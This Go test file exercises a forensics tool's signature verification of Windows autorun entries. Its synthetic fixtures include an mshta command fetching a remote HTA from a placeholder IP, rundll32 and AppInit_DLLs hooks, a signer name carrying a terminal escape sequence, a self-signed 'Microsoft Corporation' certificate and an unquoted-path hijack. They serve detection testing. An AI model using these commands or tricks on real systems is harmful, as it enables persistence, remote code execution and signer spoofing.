package main

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/birthmark-dfir/birthmark/examples/internal/machine"
	"github.com/birthmark-dfir/birthmark/internal/cli"
	"github.com/birthmark-dfir/birthmark/origin/origintest"
	"github.com/birthmark-dfir/birthmark/pe/petest"
	"github.com/birthmark-dfir/birthmark/registry/registrytest"
)

// signedFiles returns executables: unsigned, signed, changed afterwards, and signed with
// a certificate that issued itself.
func signedFiles(t *testing.T) (unsigned, signed, tampered, own []byte) {
	t.Helper()
	ca := petest.NewCA("Test Root")
	bytesOf := func(image petest.Image) []byte {
		b, err := image.Bytes()
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	var image petest.Image
	unsigned = bytesOf(image)
	image.Signature = petest.Signature{Signer: ca.Issue("Example\x1b[2J"), SigningTime: time.Date(2024, 3, 1, 13, 0, 0, 0, time.UTC)}
	signed = bytesOf(image)
	tampered = petest.Tampered(signed)
	image.Signature.Signer = &petest.NewCA("Microsoft Corporation").Signer
	return unsigned, signed, tampered, bytesOf(image)
}

// verifiable is a machine with a command of each kind.
func verifiable(t *testing.T) string {
	t.Helper()
	unsigned, signed, tampered, own := signedFiles(t)
	var software, alice registrytest.Hive
	run := func(h *registrytest.Hive, key, name, command string) {
		h.Set(key, when, registrytest.ExpandSZ(name, command))
	}
	for name, command := range map[string]string{
		"unsigned": `"C:\Program Files\unsigned.exe" /q`, "signed": `%ProgramFiles%\signed.exe`, "tampered": `C:\tampered.exe`, "own": `C:\own.exe`,
		"hosted": `rundll32 C:\Users\Public\x.dll,Go`, "sound host": `C:\tampered.exe`, "script": `wscript C:\s.vbs`, "absent": `C:\absent.exe`, "url": `mshta http://198.51.100.1/a.hta`,
		"variable": `%EVIL%\x.exe`, "nested": `%COMSPEC% /c start "" "C:\own.exe"`, "shadowed": `C:\Program Files\signed.exe`,
	} {
		if name != "shadowed" {
			run(&software, current+`Run`, name, command)
		}
	}
	run(&software, `Wow6432Node\Microsoft\Windows NT\CurrentVersion\Windows`, "AppInit_DLLs", `%SystemRoot%\System32\hook.dll`)
	run(&alice, `Software\`+current+`Run`, "profile", `%APPDATA%\p.exe`)
	dir := triage(t, map[string]registrytest.Hive{
		"C/Windows/System32/config/SOFTWARE": software,
		"C/Users/alice/NTUSER.DAT":           alice,
		"C/Windows/System32/config/SYSTEM":   hosting(nil),
	})
	for name, data := range map[string][]byte{
		"Program Files/unsigned.exe": unsigned, "Program Files/signed.exe": signed, "tampered.exe": tampered, "own.exe": own,
		"Users/Public/x.dll": unsigned, "Windows/System32/rundll32.exe": signed, "Windows/System32/cmd.exe": signed, "Windows/System32/wscript.exe": signed, "s.vbs": []byte("script"),
		"Users/alice/AppData/Roaming/p.exe": signed, "Windows/SysWOW64/hook.dll": tampered, "Windows/System32/hook.dll": signed,
		"Windows/System32/svchost.exe": signed, "Windows/System32/wuaueng.dll": tampered,
	} {
		put(t, filepath.Join(dir, "C", filepath.FromSlash(name)), data)
	}
	return dir
}

func rowsOf(t *testing.T, out string) map[string]row {
	t.Helper()
	rows := map[string]row{}
	for line := range strings.Lines(out) {
		var r row
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatal(err)
		}
		rows[r.Name] = r
	}
	return rows
}

// What is verified is the file that runs or is loaded, beside its host.
func TestVerify(t *testing.T) {
	unsigned, _, _, _ := signedFiles(t)
	dir := verifiable(t)
	out, problems := autoruns(t, cli.Done, "-format", "jsonl", "-verify", dir)
	rows := rowsOf(t, out)
	const signer = `CN=Example\1b[2J,` // as RFC 4514 writes it
	for _, tt := range []struct{ name, verdict, signer, host, hostSigner string }{
		{"unsigned", "unsigned", "", "", ""},
		{"signed", "unverified", signer, "", ""},
		{"tampered", "tampered", signer, "", ""},
		{"own", "unverified", "CN=Microsoft Corporation", "", ""},
		{"hosted", "unsigned", "", "unverified", signer},
		{"script", noExecutable, "", "unverified", signer},
		{"absent", notInEvidence, "", "", ""},
		{"url", notChecked + "it is a URL", "", notInEvidence, ""},
		{"variable", notChecked + "a variable in its path is not known", "", "", ""},
		{"nested", "unverified", "CN=Microsoft Corporation", "unverified", signer},
		{"profile", "unverified", signer, "", ""},
		{"AppInit_DLLs", "tampered", signer, "", ""}, // Windows gives 32-bit programs SysWOW64
		{"wuauserv", "tampered", signer, "unverified", signer},
		{"Spooler", notInEvidence, "", "", ""},
	} {
		r, ok := rows[tt.name]
		if !ok || r.Verdict != tt.verdict || r.HostVerdict != tt.host || !strings.HasPrefix(r.Signer, tt.signer) || r.Signer == "" != (tt.signer == "") || !strings.HasPrefix(r.HostSigner, tt.hostSigner) {
			t.Errorf("%s: %q by %q, host %q by %q; want %q by %q, host %q by %q", tt.name, r.Verdict, r.Signer, r.HostVerdict, r.HostSigner, tt.verdict, tt.signer, tt.host, tt.hostSigner)
		}
		if strings.HasSuffix(r.Signer, "(by its own certificate)") != (tt.signer == "CN=Microsoft Corporation") {
			t.Errorf("%s: the signer is %s", tt.name, r.Signer)
		}
		if hashed := strings.HasPrefix(r.Verdict, "not ") && r.Verdict != noExecutable; hashed == (r.SHA256 != "") {
			t.Errorf("%s: %s with the hash %q", tt.name, r.Verdict, r.SHA256)
		}
	}
	if want := fmt.Sprintf("%x", sha256.Sum256([]byte("script"))); rows["script"].SHA256 != want || rows["hosted"].SHA256 != fmt.Sprintf("%x", sha256.Sum256(unsigned)) {
		t.Errorf("hashes %s and %s", rows["script"].SHA256, rows["hosted"].SHA256)
	}
	if problems != noCatalogs {
		t.Errorf("problems: %s", problems)
	}
	if out, _ := autoruns(t, cli.Done, "-format", "jsonl", dir); strings.Contains(out, "verdict") || strings.Contains(out, "sha256") {
		t.Errorf("without the flag: %s", out)
	}
	for _, format := range []string{"text", "csv"} {
		if out, _ := autoruns(t, cli.Done, "-format", format, "-verify", dir); !strings.Contains(out, "tampered") || !strings.Contains(out, rows["script"].SHA256) || strings.Contains(out, "\x1b") {
			t.Errorf("%s:\n%s", format, out)
		}
	}
}

// What is left out is summed up; what cannot be checked stays.
func TestUnsigned(t *testing.T) {
	out, problems := autoruns(t, cli.Done, "-format", "jsonl", "-unsigned", verifiable(t))
	rows := rowsOf(t, out)
	for _, name := range []string{"unsigned", "tampered", "own", "hosted", "script", "absent", "url", "variable", "nested", "AppInit_DLLs", "wuauserv", "Spooler"} {
		if _, ok := rows[name]; !ok {
			t.Errorf("%s is left out", name)
		}
	}
	for _, name := range []string{"signed", "profile"} {
		if _, ok := rows[name]; ok {
			t.Errorf("%s is not left out", name)
		}
	}
	if !strings.Contains(problems, "left out: rows whose files match a signature that claims to be of CN=Example") || !strings.HasSuffix(problems, ": 2\n") || strings.Contains(problems, "\x1b") {
		t.Errorf("stderr %q", problems)
	}
}

// CreateProcess takes the first file that exists: a path with blanks and without quotes is
// verified as what runs.
func TestVerifyUnquotedPath(t *testing.T) {
	unsigned, signed, _, _ := signedFiles(t)
	h := hosting(func(spooler, _, _ *registrytest.Key) {
		spooler.Values[0] = registrytest.SZ("ImagePath", `C:\Program Files\Example\agent.exe -k`)
	})
	dir := triage(t, map[string]registrytest.Hive{"C/Windows/System32/config/SYSTEM": h})
	put(t, filepath.Join(dir, "C", "Program Files", "Example", "agent.exe"), signed)
	verdict := func() string {
		out, _ := autoruns(t, cli.Done, "-format", "jsonl", "-verify", dir)
		return rowsOf(t, out)["Spooler"].Verdict
	}
	if got := verdict(); got != "unverified" {
		t.Errorf("got %q", got)
	}
	put(t, filepath.Join(dir, "C", "Program.exe"), unsigned)
	if got := verdict(); got != "unsigned" {
		t.Errorf("with another file before it: got %q", got)
	}
}

// Variables, the search path and App Paths of the hives show where a file is.
func TestVerifyByVariables(t *testing.T) {
	unsigned, signed, _, _ := signedFiles(t)
	const run = `Microsoft\Windows\CurrentVersion\Run`
	system := hosting(nil)
	system.Set(`ControlSet001\Control\Session Manager\Environment`, when, registrytest.ExpandSZ("Path", `%SystemRoot%;%Drop%`), registrytest.SZ("Drop", `C:\Tools`))
	var software, account registrytest.Hive
	software.Set(run, when, registrytest.SZ("variable", `%DROP%\a.exe`), registrytest.SZ("path", `a.exe -x`), registrytest.SZ("registered", `word.exe`))
	software.Set(`Microsoft\Windows\CurrentVersion\App Paths\word.exe`, when, registrytest.SZ("", `C:\Other\b.exe`))
	account.Set(`Environment`, when, registrytest.SZ("Drop", `C:\Other`))
	account.Set(`Control Panel`, when)
	account.Set(`Software\`+run, when, registrytest.SZ("own", `%DROP%\b.exe`))
	dir := triage(t, map[string]registrytest.Hive{"C/Windows/System32/config/SYSTEM": system, "C/Windows/System32/config/SOFTWARE": software, "C/Users/bob/NTUSER.DAT": account})
	put(t, filepath.Join(dir, "C", "Tools", "a.exe"), signed)
	put(t, filepath.Join(dir, "C", "Other", "b.exe"), unsigned)
	out, _ := autoruns(t, cli.Done, "-format", "jsonl", "-verify", dir)
	rows := rowsOf(t, out)
	for name, want := range map[string]string{"variable": "unverified", "path": "unverified", "registered": "unsigned", "own": "unsigned"} {
		if got := rows[name].Verdict; got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
}

// A file that was replaced in place is a change, if both runs look at it.
func TestBaselineOfFiles(t *testing.T) {
	before, after := verifiable(t), verifiable(t)
	put(t, filepath.Join(after, "C", "Windows", "System32", "wuaueng.dll"), []byte("another"))
	if out, _ := autoruns(t, cli.Done, "-format", "jsonl", "-verify", "-baseline", before, after); strings.Count(out, "\n") != 1 ||
		!strings.Contains(out, `"name":"wuauserv"`) || !strings.Contains(out, `{"field":"verdict","before":"tampered","after":"not an executable"}`) {
		t.Errorf("with -verify: %s", out)
	}
	earlier, _ := autoruns(t, cli.Done, "-format", "jsonl", before)
	file := filepath.Join(t.TempDir(), "baseline.jsonl")
	if err := os.WriteFile(file, []byte(earlier), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, _ := autoruns(t, cli.Done, "-format", "jsonl", "-verify", "-baseline", file, after); out != "" {
		t.Errorf("with a baseline without -verify: %s", out)
	}
}

// On the disk of the scenario, the file asked for is unsigned wherever it starts.
func TestVerifyScenario(t *testing.T) {
	s := origintest.SQLServer()
	image := machine.Image(t, s)
	out, _ := autoruns(t, cli.Done, "-format", "jsonl", "-verify", image)
	rows := rowsOf(t, out)
	for name, want := range map[string]string{"SQLServerSvc": "unsigned", "SQLServerUpdate": "unsigned", "MSSQLSERVER": "unverified", "Sysmon64": notInEvidence} {
		if got := rows[name].Verdict; got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	if rows["SQLServerSvc"].SHA256 != rows["SQLServerUpdate"].SHA256 || len(rows["SQLServerSvc"].SHA256) != 64 {
		t.Errorf("hashes %q and %q", rows["SQLServerSvc"].SHA256, rows["SQLServerUpdate"].SHA256)
	}
	for name, dir := range machine.Folders(t, s) {
		if got, _ := autoruns(t, cli.Done, "-format", "jsonl", "-unsigned", dir); !strings.Contains(got, `"name":"SQLServerSvc"`) {
			t.Errorf("%s: -unsigned leaves it out:\n%s", name, got)
		}
	}
}
